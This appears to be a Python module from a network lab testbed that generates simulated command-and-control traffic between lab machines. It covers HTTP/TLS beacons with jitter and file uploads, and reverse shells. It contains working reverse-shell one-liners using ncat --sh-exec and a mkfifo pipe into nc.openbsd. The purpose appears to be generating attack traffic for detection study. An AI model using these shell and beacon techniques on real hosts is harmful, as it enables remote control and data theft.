"""Remote control: an infected host reports to the attacker's server, and runs what it orders."""

from __future__ import annotations

import random
import time
from abc import abstractmethod
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from subprocess import TimeoutExpired

from wirelens_testbed.attacks.attack import OVERHEAD_PACKETS, Attack, Bounds, Scene
from wirelens_testbed.attacks.network import Machine
from wirelens_testbed.failure import LabError
from wirelens_testbed.lab import Program
from wirelens_testbed.scenario import Table
from wirelens_testbed.services.service import as_nobody, give_to_nobody, make_certificate

CURL_PROGRAMS = {"curl": "curl", "nginx": "nginx-light", "openssl": "openssl"}
GNUTLS_PROGRAMS = {
    "gnutls-cli": "gnutls-bin",
    "gnutls-serv": "gnutls-bin",
    "openssl": "openssl",
}
NCAT_PROGRAMS = {"ncat": "ncat"}
NC_PROGRAMS = {"nc.openbsd": "netcat-openbsd"}
PROGRAMS = CURL_PROGRAMS | GNUTLS_PROGRAMS | NCAT_PROGRAMS | NC_PROGRAMS

FRAMES_PER_BEACON = 60
BYTES_PER_FRAME = 500
START_S, END_S = 15.0, 10.0
GNUTLS_PORT = 443
FRAMES_PER_COMMAND = 30
# Harmless, and of answers that are short or long; `{}` is a drawn number.
COMMANDS = (
    "id", "date", "pwd", "env", "uname -srm", "ip address", "ip route", "ss -ltn", "ls -l /usr",
    "ls /usr/bin | head -n {}", "df /", "head -c {} /dev/zero | od -v | head -n {}", "echo {}",
)  # fmt: skip


@dataclass
class Beacons(Attack):
    """Short connections to the attacker's server, at intervals that vary by a share."""

    name: str
    interval_s: float
    jitter: float
    duration_s: float
    answer_size_bytes: int
    machine_count: int = 2  # the infected host, and the server that it reports to

    def __post_init__(self) -> None:
        count = self.duration_s / (self.interval_s * (1 - self.jitter)) + 2
        per_beacon = FRAMES_PER_BEACON + 2 * self.sizes_max_bytes / BYTES_PER_FRAME
        packets_max = OVERHEAD_PACKETS + round(count * per_beacon)
        self.bounds = Bounds(packets_max, START_S + self.duration_s + self.interval_s * 2 + END_S)

    @property
    def sizes_max_bytes(self) -> int:
        """What one beacon sends and receives at most."""
        return self.answer_size_bytes

    def launch(self, scene: Scene) -> dict[str, object]:
        outside = scene.attackers[1]
        make_certificate(scene.lab, outside.host, scene.folder, scene.rng)
        server = scene.start_tool(outside, *self.server_command(scene, outside))
        beacon_count = 0
        try:
            scene.lab.wait_for_listener(outside.name, self.port)
            ends_s = time.monotonic() + self.duration_s
            while time.monotonic() < ends_s:
                self.report(scene, outside)
                beacon_count += 1
                factor = scene.rng.uniform(1 - self.jitter, 1 + self.jitter)
                scene.lab.pause(self.interval_s * factor)
        finally:
            scene.lab.stop(server)
        return {"server": outside.address, "beacons": beacon_count}

    @property
    @abstractmethod
    def port(self) -> int:
        """Where the attacker's server listens."""

    @abstractmethod
    def server_command(self, scene: Scene, outside: Machine) -> Sequence[str | Path]:
        """What runs outside, in the foreground."""

    @abstractmethod
    def report(self, scene: Scene, outside: Machine) -> None:
        """One beacon."""


@dataclass
class CurlBeacons(Beacons):
    """Asks for orders over HTTP or HTTPS, and now and then sends a file."""

    programs = CURL_PROGRAMS

    has_tls: bool = False
    upload_share: float = 0.0
    upload_size_bytes: int = 0

    @property
    def port(self) -> int:
        return 443 if self.has_tls else 80

    @property
    def sizes_max_bytes(self) -> int:
        return max(self.answer_size_bytes, self.upload_size_bytes)

    def server_command(self, scene: Scene, outside: Machine) -> Sequence[str | Path]:
        root = scene.folder / "www"
        (root / "in").mkdir(parents=True)
        (root / "in").chmod(0o777)
        (root / "orders").write_bytes(scene.rng.randbytes(self.answer_size_bytes))
        settings = scene.folder / "nginx.conf"
        settings.write_text(_nginx_settings(scene.folder, self.port, self.has_tls))
        return ["nginx", "-e", "stderr", "-c", settings]

    def report(self, scene: Scene, outside: Machine) -> None:
        base = f"http{'s' if self.has_tls else ''}://{outside.address}"
        options = ["-q", "--silent", "--show-error", "--fail", "--insecure", "--max-time", "5"]
        request, data_in = ["--output", "/dev/null", f"{base}/orders"], b""
        if scene.rng.random() < self.upload_share:
            data_in = scene.rng.randbytes(self.upload_size_bytes)
            request = ["--upload-file", "-", f"{base}/in/{scene.rng.getrandbits(32):x}"]
        scene.run_tool("curl", *options, *request, data_in=data_in)


@dataclass
class GnutlsBeacons(Beacons):
    """Talks to a server that echoes, over TLS."""

    programs = GNUTLS_PROGRAMS

    @property
    def port(self) -> int:
        return GNUTLS_PORT

    def server_command(self, scene: Scene, outside: Machine) -> Sequence[str | Path]:
        return [
            "gnutls-serv", "--echo", "--quiet", "--disable-client-cert", "--port", str(self.port),
            f"--x509certfile={scene.folder}/tls.crt", f"--x509keyfile={scene.folder}/tls.key",
        ]  # fmt: skip

    def report(self, scene: Scene, outside: Machine) -> None:
        line = scene.rng.randbytes(max(self.answer_size_bytes // 2, 1)).hex()
        scene.run_tool(
            "gnutls-cli", "--insecure", "--port", str(self.port), outside.address,
            data_in=f"{line}\n".encode(),
        )  # fmt: skip


@dataclass
class ReverseShell(Attack):
    """A shell of the infected host connects to the attacker, who types commands."""

    name: str
    port: int
    command_count: int
    pause_s: float
    machine_count: int = 2

    def __post_init__(self) -> None:
        self.programs = NCAT_PROGRAMS if self.name == "ncat_shell" else NC_PROGRAMS
        packets_max = OVERHEAD_PACKETS + self.command_count * FRAMES_PER_COMMAND
        time_max_s = START_S + self.command_count * 2 * self.pause_s + END_S
        self.bounds = Bounds(packets_max, time_max_s)

    def launch(self, scene: Scene) -> dict[str, object]:
        inside, outside = scene.attackers
        desk = scene.start_tool(outside, *self._listen(), takes_input=True)
        programs = [desk]
        try:
            scene.lab.wait_for_listener(outside.name, self.port)
            programs.append(scene.start_tool(inside, *self._connect(scene, outside)))
            established = ["ss", "-Htn", "state", "established", f"sport = :{self.port}"]
            scene.lab.wait_until(
                lambda: bool(scene.lab.run(outside.name, *established)),
                f"{self.name} connected", START_S,
            )  # fmt: skip
            for _ in range(self.command_count):
                scene.lab.pause(self.pause_s * scene.rng.uniform(0.2, 1.8))
                _type(desk, draw_command(scene.rng))
            scene.lab.pause(self.pause_s)
            _type(desk, "exit")
            programs[1].wait(END_S)
        except TimeoutExpired:
            raise LabError(
                f"{inside.name}: the shell still ran {END_S:g} s after `exit`, wanted its end"
            ) from None
        finally:
            scene.lab.stop(*reversed(programs))
        return {"server": f"{outside.address}:{self.port}", "commands": self.command_count}

    def _listen(self) -> Sequence[str]:
        if self.name == "ncat_shell":
            return ["ncat", "-n", "--listen", str(self.port)]
        return ["nc.openbsd", "-n", "-l", str(self.port)]

    def _connect(self, scene: Scene, outside: Machine) -> Sequence[str | Path]:
        place = outside.address, str(self.port)
        if self.name == "ncat_shell":
            return as_nobody("ncat", "-n", *place, "--sh-exec", "exec sh 2>&1")
        # This one starts no shell: a named pipe brings it what comes in.
        folder = scene.folder / "pipe"
        folder.mkdir()
        give_to_nobody(folder)
        script = 'mkfifo "$3" && sh <"$3" 2>&1 | nc.openbsd -n -N "$1" "$2" >"$3"'
        return as_nobody("sh", "-c", script, "sh", *place, folder / "in")


def draw_command(rng: random.Random) -> str:
    command = rng.choice(COMMANDS)
    return command.replace("{}", str(rng.randrange(5, 200)))


def _type(desk: Program, command: str) -> None:
    assert desk.stdin is not None
    try:
        desk.stdin.write(f"{command}\n".encode())
        desk.stdin.flush()
    except BrokenPipeError:
        raise LabError(f"the shell had ended before `{command}` was typed") from None


def _nginx_settings(folder: Path, port: int, has_tls: bool) -> str:
    kinds = ("client_body", "proxy", "fastcgi", "uwsgi", "scgi")
    temp_paths = "\n".join(f"{kind}_temp_path {folder}/{kind};" for kind in kinds)
    tls = f"ssl_certificate {folder}/tls.crt;\nssl_certificate_key {folder}/tls.key;"
    return f"""
daemon off;
user nobody nogroup;
worker_processes 1;
pid {folder}/nginx.pid;
error_log stderr crit;
events {{}}
http {{
    access_log off;
    {temp_paths}
    client_max_body_size 20m;
    server {{
        listen {port}{" ssl" if has_tls else ""};
        {tls if has_tls else ""}
        root {folder}/www;
        location /in/ {{ dav_methods PUT; }}
    }}
}}
"""


def parse_beacons(name: str, table: Table) -> Attack:
    interval_s = table.take("interval_s", float, 2.0, minimum=0.1, maximum=600)
    jitter = table.take("jitter", float, 0.2, minimum=0, maximum=0.9)
    duration_s = table.take("duration_s", float, 20.0, minimum=1, maximum=600)
    answer_size_bytes = table.take("answer_bytes", int, 200, minimum=1, maximum=200_000)
    if name == "gnutls_beacons":
        return GnutlsBeacons(name, interval_s, jitter, duration_s, min(answer_size_bytes, 1000))
    return CurlBeacons(
        name, interval_s, jitter, duration_s, answer_size_bytes,
        has_tls=table.take("tls", bool, False),
        upload_share=table.take("upload_share", float, 0.1, minimum=0, maximum=1),
        upload_size_bytes=table.take("upload_bytes", int, 20_000, minimum=1, maximum=2_000_000),
    )  # fmt: skip


def parse_shell(name: str, table: Table) -> Attack:
    return ReverseShell(
        name=name,
        port=table.take("port", int, 4444, minimum=1, maximum=65535),
        command_count=table.take("commands", int, 8, minimum=1, maximum=500),
        pause_s=table.take("pause_s", float, 1.0, minimum=0.05, maximum=60),
    )


ATTACKS: Mapping[str, Callable[[str, Table], Attack]] = {
    "curl_beacons": parse_beacons,
    "gnutls_beacons": parse_beacons,
    "ncat_shell": parse_shell,
    "nc_shell": parse_shell,
}
